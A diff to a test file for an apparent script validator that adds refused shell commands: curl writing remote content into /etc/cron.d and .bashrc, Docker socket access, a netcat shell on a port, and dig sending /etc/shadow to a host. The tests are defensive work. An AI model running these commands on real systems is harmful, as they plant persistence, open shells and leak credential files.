@@ -84,6 +84,11 @@ describe('a script is refused', () => {
     ['cat /proc/sys/kernel/core_pattern', 'another switch'],
     ['ip link | grep -f /etc/shadow', 'a file behind a pipe'],
     ['ip link | sh', 'a shell behind a pipe'],
+    ['curl -s -o /etc/cron.d/x http://10.0.0.2', 'a file that a server fills'],
+    ['curl -so/root/.bashrc http://10.0.0.2', 'the same, in one word'],
+    ['curl --unix-socket /var/run/docker.sock http://x', 'another door'],
+    ['nc -z -e /bin/sh 10.0.0.2 80', 'a program behind a port'],
+    ['dig -f /etc/shadow @10.0.0.2 a', 'a file of questions'],
   ])('for the command %s: %s', (run) => {
     expect(complaintAbout(run)).toMatch(/is not for a script$/);
   });
@@ -97,6 +102,8 @@ describe('a script is refused', () => {
     'echo 1 > /proc/sys/net/ipv4/ip_forward',
     'ip route | grep -v default | head -n 2',
     'ping -c 1 10.0.0.1',
+    'curl -s -o /dev/null http://10.0.0.1',
+    'dig @10.0.0.1 a.example +short',
   ])('but not for %s', (run) => {
     expect(complaintAbout(run)).toBe(null);
   });
